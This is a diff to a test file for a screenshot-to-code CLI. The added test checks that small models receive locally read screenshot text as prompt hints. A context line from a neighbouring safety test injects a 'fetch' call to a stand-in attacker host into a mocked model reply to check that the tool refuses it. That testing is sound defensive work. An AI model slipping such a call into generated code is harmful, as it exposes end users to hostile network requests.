@@ -68,6 +68,28 @@ describe('ui2code convert', () => {
     assert.equal(server.requests.length, 1, 'one model call for three conversions');
   });
 
+  it('gives a small model the local analysis as hints by default; --no-hints and large models go without', async () => {
+    const promptOf = (request: { body: any }) =>
+      (request.body.messages as Array<{ role: string; content: unknown }>)
+        .filter((m) => m.role === 'user')
+        .flatMap((m) => (Array.isArray(m.content) ? m.content : [{ type: 'text', text: m.content }]))
+        .map((part: { type: string; text?: string }) => part.text ?? '')
+        .join('\n');
+    const run = async (model: string, extra: string[] = []) => {
+      const root = project();
+      const server = await mock([completion(fenced(card))]);
+      const { code, stderr } = await cli(root, ['convert', 'designs/card.png', '--provider', 'openai', '--model', model, '--base-url', server.baseUrl, '--rounds', '0', '--json', ...extra], { OPENAI_API_KEY: 'k' });
+      assert.equal(code, 0, stderr);
+      return promptOf(server.requests[0]);
+    };
+    const small = await run('glm-4.1v-thinking-flashx');
+    assert.match(small, /Texts found in the screenshot by local analysis/);
+    assert.match(small, /"Monthly report" at \d+,\d+/, 'the texts the engine read, with their positions');
+    assert.doesNotMatch(await run('glm-4.1v-thinking-flashx', ['--no-hints']), /Texts found in the screenshot/);
+    assert.doesNotMatch(await run('gpt-4o'), /Texts found in the screenshot/, 'a large model reads the image itself');
+    assert.match(await run('gpt-4o', ['--hints']), /"Monthly report"/);
+  });
+
   it('refuses an unsafe reply: exit 1, the rule named, nothing written', async () => {
     const root = project();
     const server = await mock([completion(fenced(card.replace('return (', "fetch('https://evil.example');\n  return (")))]);
